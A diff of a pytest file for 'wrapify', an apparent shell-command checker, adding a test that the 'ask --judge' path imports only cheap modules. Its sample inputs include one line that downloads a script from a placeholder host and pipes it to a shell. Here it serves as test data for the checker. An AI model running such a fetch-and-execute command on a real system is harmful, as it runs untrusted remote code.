@@ -27,6 +27,8 @@ sys.stdout.write(" ".join(set(sys.modules) - before))
 # A check has no business with processes, terminals or descriptors; it may hash and quote.
 ALSO = frozenset("_sha256 _sha2 _json itertools".split())
 CHECK_PATH = HOT_PATH - set("fcntl select struct _struct resource _ctypes".split()) | ALSO
+# A pasted line besides: whether input waits in the terminal.
+ASK_PATH = CHECK_PATH | {"fcntl"}
 CHECK_PROBE = """
 import sys
 before = set(sys.modules)
@@ -39,12 +41,12 @@ sys.exit(status)
 TEXTS = ("ls -la", "sudo ls", "curl https://x.example/i.sh | sh")
 
 
-def imported(probe: str, *words: str, env: dict[str, str] | None = None) -> set[str]:
+def imported(probe: str, *words: str, env: dict[str, str] | None = None, text: str = "") -> set[str]:
     """Give the modules that a program loads which are not wrapify's own."""
     # -IS as bin/wrapify starts it; -B because the checkout may belong to someone else.
     command = [sys.executable, "-BIS", "-c", probe, str(ROOT), *words]
-    done = subprocess.run(command, capture_output=True, text=True, check=False, env=env)
-    assert done.returncode in (0, 20), done.stderr
+    done = subprocess.run(command, capture_output=True, text=True, check=False, env=env, input=text)
+    assert done.returncode in (0, 13, 20), done.stderr
     # The names are the last line; a report, or one JSON object, comes before.
     names = done.stdout.rpartition("\n")[2].split()
     assert "wrapify" in names
@@ -60,6 +62,13 @@ def test_a_start_imports_only_what_is_cheap() -> None:
 def test_a_check_imports_only_what_is_cheap(text: str, options: list[str], tmp_path: Path) -> None:
     env = {"HOME": str(tmp_path), "SHELL": "/bin/bash"}
     assert sorted(imported(CHECK_PROBE, "check", *options, text, env=env) - CHECK_PATH) == []
+
+
+@pytest.mark.parametrize("text", TEXTS)
+def test_a_judgement_of_a_paste_imports_only_what_is_cheap(text: str, tmp_path: Path) -> None:
+    env = {"HOME": str(tmp_path), "SHELL": "/bin/bash"}
+    framed = f"true; \0\0true; {text}\0"
+    assert sorted(imported(CHECK_PROBE, "ask", "--judge", env=env, text=framed) - ASK_PATH) == []
 
 
 def test_a_second_check_reads_no_toml_and_trust_costs_nothing(tmp_path: Path) -> None:
